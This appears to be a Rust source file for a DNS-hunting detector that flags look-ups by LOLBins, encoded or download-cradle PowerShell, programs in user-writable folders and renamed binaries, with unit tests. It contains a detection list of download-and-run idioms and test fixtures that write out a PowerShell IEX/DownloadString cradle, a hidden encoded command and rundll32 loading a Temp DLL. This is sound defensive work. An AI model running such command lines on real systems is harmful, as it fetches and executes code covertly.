@@ -1,0 +1,757 @@
+//! # process_context
+//!
+//! **What:** DNS look-ups by processes that seldom resolve names, judged from the process
+//! itself (joined with its EID 1 ProcessCreate on the ProcessGuid):
+//! - `lolbin`: system binaries attackers use to run or fetch code (rundll32, regsvr32, mshta,
+//!   certutil, bitsadmin, msiexec, installutil, regasm, regsvcs, wmic, cscript, wscript, ...;
+//!   `data/windows_binaries.txt`);
+//! - `lolbin_payload`: such a binary started with a URL, a UNC path or a file in a
+//!   user-writable folder on its command line (`rundll32.exe C:\Users\x\AppData\Local\Temp\a.dll,Start`);
+//! - `encoded_powershell`: PowerShell started with `-EncodedCommand` (or any of its
+//!   abbreviations, `-enc`, `-e`, `-ec`);
+//! - `download_cradle`: PowerShell whose command line downloads and runs code
+//!   (`DownloadString`, `Net.WebClient`, `Invoke-WebRequest`, `IEX`, ...);
+//! - `user_writable_path`: an image in `Downloads`, `Desktop`, `AppData\Local\Temp`,
+//!   `Windows\Temp`, `Users\Public` or the root of `ProgramData` (medium), or elsewhere in
+//!   `AppData` or `ProgramData` (low), except well-known per-user installs (OneDrive, Teams,
+//!   `AppData\Local\Programs`, ...; `benign_paths`);
+//! - `renamed`: the PE header's `OriginalFileName` differs from the image's file name — high
+//!   when either name is a Windows binary (a renamed `powershell.exe`, a fake `svchost.exe`).
+//!
+//! One finding per process and reason; the evidence is the look-ups. The command line and
+//! `OriginalFileName` come from EID 1, which may come after the look-ups (files are read in any
+//! order): the first `max_pending_per_process` look-ups of a process whose EID 1 has not been
+//! seen yet are kept and judged when it arrives, for at most `max_pending_processes` processes.
+//!
+//! **Why:** the seed's point: knowing *which program* resolved a name is what turns a DNS log
+//! into evidence. Stagers and implants run as LOLBins, encoded PowerShell or dropped files in
+//! Temp and Downloads, and malware renames system tools to blend in.
+//!
+//! **ATT&CK:** T1218 (System Binary Proxy Execution, with the sub-technique of the binary),
+//! T1059.001 (PowerShell), T1105 (Ingress Tool Transfer) for download cradles, T1204.002
+//! (User Execution: Malicious File) for user-writable paths, T1036.003 (Masquerading: Rename
+//! System Utilities) for renamed binaries.
+//!
+//! **False positives:** software installers run from Downloads or Temp, msiexec during
+//! installs, per-user apps in AppData that are not in `benign_paths`, admin scripts that use
+//! `-EncodedCommand` (some management agents do), and binaries whose vendor renamed them.
+
+use std::collections::HashMap;
+
+use dnshunt_core::{image_file_name, Detector, Event, EventKind, Finding, Guid, Severity};
+use serde::Deserialize;
+
+const WINDOWS_BINARIES: &str = include_str!("../../data/windows_binaries.txt");
+
+/// Settings of the `process_context` detector.
+#[derive(Clone, Debug, Deserialize, PartialEq)]
+#[serde(deny_unknown_fields, default)]
+pub struct ProcessContextConfig {
+    /// More LOLBin image names (lower case, e.g. `mytool.exe`), judged at `lolbin_severity`.
+    pub extra_lolbins: Vec<String>,
+    /// Image names that are never judged as LOLBins (e.g. `msiexec.exe` where software is
+    /// deployed all day).
+    pub ignore_lolbins: Vec<String>,
+    /// Severity of a look-up by a LOLBin listed without its own severity.
+    pub lolbin_severity: Severity,
+    /// Severity of a LOLBin with a URL, UNC path or user-writable file on its command line.
+    pub lolbin_payload_severity: Severity,
+    /// Severity of PowerShell with an encoded command.
+    pub encoded_powershell_severity: Severity,
+    /// Severity of PowerShell with a download cradle.
+    pub download_cradle_severity: Severity,
+    /// Severity of an image in Downloads, Desktop, Temp, Users\Public or the ProgramData root.
+    pub temp_path_severity: Severity,
+    /// Severity of an image elsewhere in AppData or ProgramData.
+    pub appdata_path_severity: Severity,
+    /// Folders (lower case, backslashes, matched anywhere in the path) of well-known per-user
+    /// software, never judged as user-writable.
+    pub benign_paths: Vec<String>,
+    /// Severity of a renamed Windows binary (or a binary named like one).
+    pub renamed_system_severity: Severity,
+    /// Severity of any other binary whose `OriginalFileName` differs from its file name.
+    pub renamed_other_severity: Severity,
+    /// Look-ups kept per process while its EID 1 has not been seen.
+    pub max_pending_per_process: usize,
+    /// Processes whose look-ups wait for their EID 1, at most.
+    pub max_pending_processes: usize,
+    /// Processes remembered from EID 1, at most.
+    pub max_processes: usize,
+}
+
+impl Default for ProcessContextConfig {
+    fn default() -> Self {
+        let benign = [
+            "\\appdata\\local\\microsoft\\onedrive\\",
+            "\\appdata\\local\\microsoft\\teams\\",
+            "\\appdata\\local\\microsoft\\windowsapps\\",
+            "\\appdata\\local\\microsoft\\edge",
+            "\\appdata\\local\\programs\\",
+            "\\appdata\\local\\google\\chrome\\",
+            "\\appdata\\local\\mozilla firefox\\",
+            "\\appdata\\roaming\\zoom\\",
+            "\\appdata\\local\\slack\\",
+            "\\appdata\\local\\discord\\",
+            "\\appdata\\roaming\\spotify\\",
+            "\\appdata\\local\\webex\\",
+            "\\programdata\\microsoft\\windows defender\\",
+            "\\programdata\\microsoft\\windows defender advanced threat protection\\",
+        ];
+        ProcessContextConfig {
+            extra_lolbins: Vec::new(),
+            ignore_lolbins: Vec::new(),
+            lolbin_severity: Severity::Medium,
+            lolbin_payload_severity: Severity::High,
+            encoded_powershell_severity: Severity::High,
+            download_cradle_severity: Severity::High,
+            temp_path_severity: Severity::Medium,
+            appdata_path_severity: Severity::Low,
+            benign_paths: benign.iter().map(|s| (*s).to_owned()).collect(),
+            renamed_system_severity: Severity::High,
+            renamed_other_severity: Severity::Low,
+            max_pending_per_process: 5,
+            max_pending_processes: 20_000,
+            max_processes: 500_000,
+        }
+    }
+}
+
+/// Why a process's look-ups are suspicious.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum Reason {
+    Lolbin,
+    LolbinPayload,
+    EncodedPowershell,
+    DownloadCradle,
+    UserWritablePath,
+    Renamed,
+}
+
+impl Reason {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Reason::Lolbin => "lolbin",
+            Reason::LolbinPayload => "lolbin_payload",
+            Reason::EncodedPowershell => "encoded_powershell",
+            Reason::DownloadCradle => "download_cradle",
+            Reason::UserWritablePath => "user_writable_path",
+            Reason::Renamed => "renamed",
+        }
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Kind {
+    Lolbin(Option<Severity>),
+    Shell,
+    System,
+}
+
+/// What EID 1 told us about a process.
+#[derive(Clone, Debug)]
+struct ProcInfo {
+    image: Option<String>,
+    command_line: Option<String>,
+    original_file_name: Option<String>,
+}
+
+#[derive(Debug, Default)]
+struct Pending {
+    events: Vec<Event>,
+    /// Look-ups beyond the ones kept.
+    more: u64,
+}
+
+/// Longest command line kept per process (the rest is not needed to judge it).
+const MAX_COMMAND_LINE: usize = 8192;
+
+/// Download-and-run idioms of PowerShell command lines (lower case).
+const CRADLES: &[&str] = &[
+    "downloadstring",
+    "downloadfile",
+    "downloaddata",
+    "net.webclient",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "start-bitstransfer",
+    "invoke-expression",
+    "iex(",
+    "iex ",
+    "|iex",
+    "| iex",
+    "iwr ",
+    "irm ",
+    "frombase64string",
+    "msxml2.xmlhttp",
+    "winhttp.winhttprequest",
+];
+
+/// Certificate revocation and trust-list hosts. Windows checks signatures in-process, so any
+/// binary, a LOLBin included, may fetch a CRL or OCSP answer while loading signed code.
+const PKI_DOMAINS: &[&str] = &[
+    "ctldl.windowsupdate.com",
+    "crl.microsoft.com",
+    "oneocsp.microsoft.com",
+    "digicert.com",
+    "verisign.com",
+    "symcd.com",
+    "symcb.com",
+    "globalsign.com",
+    "globalsign.net",
+    "sectigo.com",
+    "comodoca.com",
+    "usertrust.com",
+    "letsencrypt.org",
+    "lencr.org",
+    "pki.goog",
+    "amazontrust.com",
+    "godaddy.com",
+    "entrust.net",
+    "identrust.com",
+    "thawte.com",
+    "geotrust.com",
+    "rapidssl.com",
+    "ss2.us",
+    "trustwave.com",
+];
+
+/// The ATT&CK sub-technique of System Binary Proxy Execution for a binary.
+fn proxy_technique(image: &str) -> &'static str {
+    match image {
+        "rundll32.exe" => "T1218.011",
+        "regsvr32.exe" => "T1218.010",
+        "mshta.exe" => "T1218.005",
+        "msiexec.exe" => "T1218.007",
+        "installutil.exe" => "T1218.004",
+        "regasm.exe" | "regsvcs.exe" => "T1218.009",
+        "cmstp.exe" => "T1218.003",
+        "odbcconf.exe" => "T1218.008",
+        "control.exe" => "T1218.002",
+        "mavinject.exe" => "T1218.013",
+        "hh.exe" => "T1218.001",
+        _ => "T1218",
+    }
+}
+
+/// The file name without any extension (`pwsh.dll` and `pwsh.exe` are both `pwsh`) and without
+/// an architecture ending (`PsExec64.exe` says `psexec.c`, `procexp64.exe` says `procexp.exe`).
+fn stem(name: &str) -> &str {
+    let s = name.split('.').next().unwrap_or(name);
+    ["_x64", "-x64", "x64", "_x86", "-x86", "x86", "64", "32"]
+        .iter()
+        .find_map(|end| s.strip_suffix(end).filter(|rest| rest.len() >= 3))
+        .unwrap_or(s)
+}
+
+/// The user-writable folder an image (or a path on a command line) is in, with how suspicious
+/// it is: `Some((folder, true))` for Temp-like folders, `Some((folder, false))` for AppData and
+/// ProgramData.
+fn writable_folder(path_lower: &str) -> Option<(&'static str, bool)> {
+    const TEMP_LIKE: &[(&str, &str)] = &[
+        ("\\appdata\\local\\temp\\", "AppData\\Local\\Temp"),
+        ("\\windows\\temp\\", "Windows\\Temp"),
+        ("\\downloads\\", "Downloads"),
+        ("\\desktop\\", "Desktop"),
+        ("\\users\\public\\", "Users\\Public"),
+        ("\\$recycle.bin\\", "$Recycle.Bin"),
+        ("\\perflogs\\", "PerfLogs"),
+    ];
+    if let Some((_, name)) = TEMP_LIKE.iter().find(|(p, _)| path_lower.contains(p)) {
+        return Some((name, true));
+    }
+    if let Some(i) = path_lower.find("\\programdata\\") {
+        // A program directly in the ProgramData root is a dropper's habit; vendors use subfolders.
+        let rest = &path_lower[i + "\\programdata\\".len()..];
+        return Some(("ProgramData", !rest.contains('\\')));
+    }
+    if path_lower.contains("\\appdata\\") {
+        return Some(("AppData", false));
+    }
+    None
+}
+
+/// Whether a PowerShell command line carries `-EncodedCommand` in any accepted spelling.
+fn has_encoded_command(command_line: &str) -> bool {
+    command_line.split_whitespace().any(|token| {
+        let Some(first) = token.chars().next() else { return false };
+        // PowerShell also accepts `/` and the dashes attackers use to dodge string matches.
+        if !matches!(first, '-' | '/' | '\u{2013}' | '\u{2014}' | '\u{2015}') {
+            return false;
+        }
+        let flag = token[first.len_utf8()..].trim_matches('"').to_ascii_lowercase();
+        flag == "e" || flag == "ec" || (flag.len() >= 3 && "encodedcommand".starts_with(&flag))
+    })
+}
+
+/// What a LOLBin's command line points at that it should not: a URL, a UNC path or a file in a
+/// user-writable folder.
+fn payload_reference(command_line_lower: &str) -> Option<&'static str> {
+    if command_line_lower.contains("http://") || command_line_lower.contains("https://") || command_line_lower.contains("ftp://") {
+        return Some("a URL");
+    }
+    if command_line_lower.split_whitespace().any(|t| t.trim_start_matches(['"', '\'']).starts_with("\\\\")) {
+        return Some("a UNC path");
+    }
+    if let Some((folder, _)) = writable_folder(command_line_lower) {
+        return Some(match folder {
+            "AppData\\Local\\Temp" | "Windows\\Temp" => "a file in a Temp folder",
+            "Downloads" => "a file in Downloads",
+            "Desktop" => "a file on the Desktop",
+            "Users\\Public" => "a file in Users\\Public",
+            "ProgramData" => "a file in ProgramData",
+            "AppData" => "a file in AppData",
+            _ => "a file in a user-writable folder",
+        });
+    }
+    None
+}
+
+/// The detector.
+pub struct ProcessContext {
+    config: ProcessContextConfig,
+    binaries: HashMap<String, Kind>,
+    procs: HashMap<Guid, ProcInfo>,
+    pending: HashMap<Guid, Pending>,
+    /// Look-ups that could not wait for their EID 1 because `max_pending_processes` was reached.
+    pub dropped_pending: u64,
+}
+
+impl ProcessContext {
+    pub const NAME: &'static str = "process_context";
+
+    pub fn new(mut config: ProcessContextConfig) -> ProcessContext {
+        let mut binaries = HashMap::new();
+        for line in WINDOWS_BINARIES.lines() {
+            let mut parts = line.split_whitespace();
+            let (Some(name), Some(kind)) = (parts.next(), parts.next()) else { continue };
+            if name.starts_with('#') {
+                continue;
+            }
+            let kind = match kind {
+                "lolbin" => Kind::Lolbin(parts.next().and_then(|s| s.parse().ok())),
+                "shell" => Kind::Shell,
+                _ => Kind::System,
+            };
+            binaries.insert(name.to_lowercase(), kind);
+        }
+        for name in &config.extra_lolbins {
+            binaries.insert(name.to_lowercase(), Kind::Lolbin(None));
+        }
+        for name in &config.ignore_lolbins {
+            if let Some(Kind::Lolbin(_)) = binaries.get(&name.to_lowercase()) {
+                binaries.insert(name.to_lowercase(), Kind::System);
+            }
+        }
+        for p in &mut config.benign_paths {
+            *p = p.to_lowercase().replace('/', "\\");
+        }
+        ProcessContext {
+            config,
+            binaries,
+            procs: HashMap::new(),
+            pending: HashMap::new(),
+            dropped_pending: 0,
+        }
+    }
+
+    fn finding(&self, event: &Event, reason: Reason, severity: Severity, attack: &[&str], explanation: String) -> Finding {
+        let process = event.process();
+        let who = process.guid.map(|g| g.to_string()).or_else(|| process.image.clone()).unwrap_or_default();
+        let score = match severity {
+            Severity::Critical => 95,
+            Severity::High => 80,
+            Severity::Medium => 55,
+            Severity::Low => 30,
+            Severity::Info => 10,
+        };
+        Finding::from_event(Self::NAME, severity, score, event, &[&who, reason.as_str()], explanation)
+            .with_attack(attack)
+            .with_detail("reason", reason.as_str())
+    }
+
+    /// Reasons that the image path alone gives.
+    fn judge_image(&self, event: &Event, out: &mut Vec<Finding>) {
+        let Some(image) = event.process().image.as_deref() else { return };
+        let name = image_file_name(image);
+        let Some(q) = event.dns() else { return };
+        if let Some(Kind::Lolbin(sev)) = self.binaries.get(&name) {
+            let mut severity = sev.unwrap_or(self.config.lolbin_severity);
+            let pki = q.query.self_and_parents().any(|p| PKI_DOMAINS.contains(&p));
+            if pki {
+                // A revocation check alone says little; any other name raises the finding (it
+                // merges, and the highest severity stands).
+                severity = severity.min(Severity::Low);
+            }
+            let explanation = format!(
+                "{name} looked up {}; {name} is a Windows binary that attackers use to run or fetch their code (a LOLBin) and that seldom resolves names itself{}",
+                q.query,
+                if pki { " (this name is a certificate check, which any binary may make)" } else { "" }
+            );
+            out.push(
+                self.finding(event, Reason::Lolbin, severity, &[proxy_technique(&name)], explanation)
+                    .with_detail("binary", name.clone()),
+            );
+        }
+        let lower = image.to_lowercase().replace('/', "\\");
+        if self.config.benign_paths.iter().any(|p| lower.contains(p.as_str())) {
+            return;
+        }
+        if let Some((folder, temp_like)) = writable_folder(&lower) {
+            let severity = if temp_like { self.config.temp_path_severity } else { self.config.appdata_path_severity };
+            let explanation = format!(
+                "{name} looked up {}; it runs from {folder}, a user-writable folder where downloaded and dropped programs live",
+                q.query
+            );
+            out.push(
+                self.finding(event, Reason::UserWritablePath, severity, &["T1204.002"], explanation)
+                    .with_detail("folder", folder)
+                    .with_detail("image", image),
+            );
+        }
+    }
+
+    /// Reasons that need the process's EID 1.
+    fn judge_with_info(&self, event: &Event, info: &ProcInfo, out: &mut Vec<Finding>) {
+        let Some(q) = event.dns() else { return };
+        let image = info.image.as_deref().or(event.process().image.as_deref());
+        let name = image.map(image_file_name).unwrap_or_default();
+        let kind = self.binaries.get(&name).copied();
+        if let Some(cl) = info.command_line.as_deref() {
+            let lower = cl.to_lowercase();
+            if kind == Some(Kind::Shell) {
+                if has_encoded_command(cl) {
+                    let explanation = format!(
+                        "{name} looked up {}; it was started with an encoded command (-EncodedCommand), which hides the script from the command line",
+                        q.query
+                    );
+                    out.push(self.finding(
+                        event,
+                        Reason::EncodedPowershell,
+                        self.config.encoded_powershell_severity,
+                        &["T1059.001", "T1027"],
+                        explanation,
+                    ));
+                }
+                if let Some(token) = CRADLES.iter().find(|c| lower.contains(*c)) {
+                    let explanation = format!("{name} looked up {}; its command line downloads and runs code ({})", q.query, token.trim());
+                    out.push(
+                        self.finding(event, Reason::DownloadCradle, self.config.download_cradle_severity, &["T1059.001", "T1105"], explanation)
+                            .with_detail("cradle", token.trim()),
+                    );
+                }
+            }
+            if let Some(Kind::Lolbin(_)) = kind {
+                // Skip the program's own path, which may itself sit in a user-writable folder.
+                let args = lower
+                    .strip_prefix('"')
+                    .and_then(|rest| rest.split_once('"'))
+                    .map_or_else(|| lower.split_once(char::is_whitespace).map_or("", |(_, rest)| rest), |(_, rest)| rest);
+                if let Some(what) = payload_reference(args) {
+                    let explanation = format!(
+                        "{name} looked up {}; it was started with {what} on its command line, the shape of a proxied payload",
+                        q.query
+                    );
+                    out.push(
+                        self.finding(event, Reason::LolbinPayload, self.config.lolbin_payload_severity, &[proxy_technique(&name)], explanation)
+                            .with_detail("binary", name.clone())
+                            .with_detail("payload", what),
+                    );
+                }
+            }
+        }
+        if let Some(ofn) = info.original_file_name.as_deref() {
+            let ofn_lower = ofn.trim().to_lowercase();
+            let ofn_lower = ofn_lower.strip_suffix(".mui").unwrap_or(&ofn_lower);
+            if !name.is_empty() && !ofn_lower.is_empty() && !matches!(ofn_lower, "-" | "?") && stem(ofn_lower) != stem(&name) {
+                let known = |n: &str| self.binaries.contains_key(n) || self.binaries.keys().any(|k| stem(k) == stem(n));
+                let system = known(ofn_lower) || known(&name);
+                let severity = if system {
+                    self.config.renamed_system_severity
+                } else {
+                    self.config.renamed_other_severity
+                };
+                let explanation = format!(
+                    "{name} looked up {}; its PE header names it {ofn}: {}",
+                    q.query,
+                    if system { "a renamed or impersonated Windows binary" } else { "the file was renamed" }
+                );
+                out.push(
+                    self.finding(event, Reason::Renamed, severity, &["T1036.003"], explanation)
+                        .with_detail("original_file_name", ofn)
+                        .with_detail("image_name", name.clone()),
+                );
+            }
+        }
+    }
+
+    fn remember(&mut self, guid: Guid, info: ProcInfo, out: &mut Vec<Finding>) {
+        if let Some(pending) = self.pending.remove(&guid) {
+            let start = out.len();
+            for event in &pending.events {
+                self.judge_with_info(event, &info, out);
+            }
+            // Look-ups beyond the kept ones still count.
+            if pending.more > 0 {
+                let mut seen = std::collections::HashSet::new();
+                for f in out[start..].iter_mut().rev() {
+                    if seen.insert(f.id.clone()) {
+                        f.count += pending.more;
+                    }
+                }
+            }
+        }
+        if self.procs.len() < self.config.max_processes || self.procs.contains_key(&guid) {
+            self.procs.insert(guid, info);
+        }
+    }
+}
+
+impl Detector for ProcessContext {
+    fn name(&self) -> &'static str {
+        Self::NAME
+    }
+
+    fn observe(&mut self, event: &Event, out: &mut Vec<Finding>) {
+        match &event.kind {
+            EventKind::ProcessCreate(pc) => {
+                let Some(guid) = pc.process.guid else { return };
+                let info = ProcInfo {
+                    image: pc.process.image.clone(),
+                    command_line: pc.command_line.as_ref().map(|c| {
+                        let mut end = c.len().min(MAX_COMMAND_LINE);
+                        while !c.is_char_boundary(end) {
+                            end -= 1;
+                        }
+                        c[..end].to_owned()
+                    }),
+                    original_file_name: pc.original_file_name.clone(),
+                };
+                self.remember(guid, info, out);
+            }
+            EventKind::DnsQuery(_) => {
+                self.judge_image(event, out);
+                let Some(guid) = event.process().guid else { return };
+                if let Some(info) = self.procs.get(&guid) {
+                    self.judge_with_info(event, info, out);
+                    return;
+                }
+                if !self.pending.contains_key(&guid) && self.pending.len() >= self.config.max_pending_processes {
+                    self.dropped_pending += 1;
+                    return;
+                }
+                let pending = self.pending.entry(guid).or_default();
+                if pending.events.len() < self.config.max_pending_per_process {
+                    pending.events.push(event.clone());
+                } else {
+                    pending.more += 1;
+                }
+            }
+            _ => {}
+        }
+    }
+
+    fn finish(&mut self, _out: &mut Vec<Finding>) {
+        // Look-ups whose process never had an EID 1 were judged by their image alone.
+        self.pending.clear();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detectors::tests::dns;
+    use dnshunt_core::{ProcessCreate, ProcessRef};
+
+    const GUID: &str = "{22052e76-6f9d-5d13-0000-0010d31f0c00}";
+
+    fn lookup(image: &str, name: &str) -> Event {
+        let mut e = dns(name, "-");
+        if let EventKind::DnsQuery(q) = &mut e.kind {
+            q.process.image = Some(image.into());
+        }
+        e
+    }
+
+    fn create(image: &str, command_line: &str, ofn: &str) -> Event {
+        let mut e = dns("x.example", "-");
+        e.kind = EventKind::ProcessCreate(ProcessCreate {
+            process: ProcessRef {
+                guid: Guid::parse(GUID),
+                pid: Some(6484),
+                image: Some(image.into()),
+                user: None,
+            },
+            command_line: Some(command_line.into()),
+            original_file_name: Some(ofn.into()),
+            ..Default::default()
+        });
+        e
+    }
+
+    fn run(config: ProcessContextConfig, events: &[Event]) -> Vec<(String, Severity, u64)> {
+        let mut engine = crate::Engine::new(crate::EngineConfig::default(), vec![Box::new(ProcessContext::new(config))]);
+        for e in events {
+            engine.observe(e);
+        }
+        let (findings, _) = engine.finish();
+        let mut got: Vec<(String, Severity, u64)> = findings.iter().map(|f| (f.details["reason"].as_str().unwrap().to_owned(), f.severity, f.count)).collect();
+        got.sort();
+        got
+    }
+
+    #[track_caller]
+    fn check(events: &[Event], expected: &[(&str, Severity, u64)]) {
+        let got = run(ProcessContextConfig::default(), events);
+        let mut expected: Vec<(String, Severity, u64)> = expected.iter().map(|(r, s, n)| ((*r).to_owned(), *s, *n)).collect();
+        expected.sort();
+        assert_eq!(got, expected);
+        // Files come in any order: EID 1 after the look-ups must give the same result.
+        let mut reversed = events.to_vec();
+        reversed.reverse();
+        assert_eq!(run(ProcessContextConfig::default(), &reversed), expected, "reversed order");
+    }
+
+    const RUNDLL: &str = "C:\\Windows\\System32\\rundll32.exe";
+    const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+
+    #[test]
+    fn incident_rundll32_with_temp_dll() {
+        check(
+            &[
+                create(
+                    RUNDLL,
+                    "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Users\\k.sato\\AppData\\Local\\Temp\\wupd64.dll,Start",
+                    "RUNDLL32.EXE",
+                ),
+                lookup(RUNDLL, "api.update-cdn-sync.com"),
+                lookup(RUNDLL, "api.update-cdn-sync.com"),
+                lookup(RUNDLL, "dns.google"),
+            ],
+            &[("lolbin", Severity::Medium, 3), ("lolbin_payload", Severity::High, 3)],
+        );
+    }
+
+    #[test]
+    fn incident_encoded_powershell() {
+        check(
+            &[
+                create(PS, "\"powershell.exe\" -nop -w hidden -enc JABlAD0AJwBoAHQAdABw", "PowerShell.EXE"),
+                lookup(PS, "static.docview-static.net"),
+            ],
+            &[("encoded_powershell", Severity::High, 1)],
+        );
+        check(
+            &[
+                create(
+                    PS,
+                    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
+                    "PowerShell.EXE",
+                ),
+                lookup(PS, "x.example"),
+            ],
+            &[("download_cradle", Severity::High, 1)],
+        );
+        assert!(has_encoded_command("powershell /e JAB"));
+        assert!(has_encoded_command("powershell \u{2013}EncodedCommand JAB"));
+        assert!(has_encoded_command("pwsh -EncodedC JAB"));
+        assert!(!has_encoded_command("powershell -ExecutionPolicy Bypass -File x.ps1"));
+        assert!(!has_encoded_command("powershell -ex bypass"));
+    }
+
+    #[test]
+    fn user_writable_paths() {
+        check(
+            &[lookup("C:\\Users\\k.sato\\Downloads\\tool.exe", "c2.example")],
+            &[("user_writable_path", Severity::Medium, 1)],
+        );
+        check(&[lookup("C:\\ProgramData\\updater.exe", "c2.example")], &[("user_writable_path", Severity::Medium, 1)]);
+        check(
+            &[lookup("C:\\Users\\k.sato\\AppData\\Roaming\\Vendor\\agent.exe", "api.vendor.example")],
+            &[("user_writable_path", Severity::Low, 1)],
+        );
+        check(&[lookup("C:\\Users\\k.sato\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "g.live.com")], &[]);
+        check(
+            &[lookup(
+                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2008.9-0\\MsMpEng.exe",
+                "go.microsoft.com",
+            )],
+            &[],
+        );
+    }
+
+    #[test]
+    fn renamed_binaries() {
+        let fake = "C:\\Users\\Public\\svchost.exe";
+        check(
+            &[create(fake, fake, "PowerShell.EXE"), lookup(fake, "c2.example")],
+            &[("renamed", Severity::High, 1), ("user_writable_path", Severity::Medium, 1)],
+        );
+        let app = "C:\\Program Files\\Vendor\\agent.exe";
+        check(&[create(app, app, "vendor-agent.exe"), lookup(app, "api.vendor.example")], &[("renamed", Severity::Low, 1)]);
+        // PowerShell 7 says `pwsh.dll`; `.mui` and case differences are not renames.
+        let pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
+        check(&[create(pwsh, pwsh, "pwsh.dll"), lookup(pwsh, "www.powershellgallery.com")], &[]);
+        check(&[create(PS, "powershell.exe", "PowerShell.EXE.MUI"), lookup(PS, "www.example.com")], &[]);
+        check(&[create(app, app, "-"), lookup(app, "api.vendor.example")], &[]);
+        // Sysinternals: `PsExec64.exe` is `psexec.c` in its header.
+        let psexec = "C:\\Tools\\PsExec64.exe";
+        check(&[create(psexec, psexec, "psexec.c"), lookup(psexec, "fs03")], &[]);
+    }
+
+    #[test]
+    fn ordinary_processes_do_not_fire() {
+        let chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
+        check(&[create(chrome, chrome, "chrome.exe"), lookup(chrome, "www.google.com")], &[]);
+        check(
+            &[create(PS, "powershell.exe -File C:\\scripts\\inventory.ps1", "PowerShell.EXE"), lookup(PS, "github.com")],
+            &[],
+        );
+        check(&[lookup("C:\\Windows\\System32\\svchost.exe", "ctldl.windowsupdate.com")], &[]);
+        // Without EID 1, PowerShell is judged by nothing it cannot show.
+        check(&[lookup(PS, "github.com")], &[]);
+    }
+
+    #[test]
+    fn pending_lookups_are_bounded_and_still_counted() {
+        let config = ProcessContextConfig {
+            max_pending_per_process: 2,
+            ..Default::default()
+        };
+        let mut events: Vec<Event> = (0..6).map(|_| lookup(PS, "x.example")).collect();
+        events.push(create(PS, "powershell -enc JAB", "PowerShell.EXE"));
+        assert_eq!(run(config.clone(), &events), [("encoded_powershell".to_owned(), Severity::High, 6)]);
+        let mut d = ProcessContext::new(ProcessContextConfig {
+            max_pending_processes: 0,
+            ..Default::default()
+        });
+        let mut out = Vec::new();
+        d.observe(&lookup(PS, "x.example"), &mut out);
+        assert_eq!(d.dropped_pending, 1);
+        assert!(d.pending.is_empty());
+    }
+
+    #[test]
+    fn lolbin_lists_are_configurable() {
+        let config = ProcessContextConfig {
+            extra_lolbins: vec!["MyTool.exe".into()],
+            ignore_lolbins: vec!["rundll32.exe".into()],
+            ..Default::default()
+        };
+        assert_eq!(
+            run(config.clone(), &[lookup("C:\\Tools\\mytool.exe", "a.example")]),
+            [("lolbin".to_owned(), Severity::Medium, 1)]
+        );
+        assert!(run(config, &[lookup(RUNDLL, "a.example")]).is_empty());
+        check(&[lookup("C:\\Windows\\System32\\mshta.exe", "a.example")], &[("lolbin", Severity::High, 1)]);
+        check(&[lookup("C:\\Windows\\System32\\msiexec.exe", "a.example")], &[("lolbin", Severity::Low, 1)]);
+        // Certificate checks alone are low; another name raises the same finding.
+        check(
+            &[lookup(RUNDLL, "ctldl.windowsupdate.com"), lookup(RUNDLL, "ocsp.digicert.com")],
+            &[("lolbin", Severity::Low, 2)],
+        );
+        check(
+            &[lookup(RUNDLL, "ctldl.windowsupdate.com"), lookup(RUNDLL, "c2.example")],
+            &[("lolbin", Severity::Medium, 2)],
+        );
+    }
+}
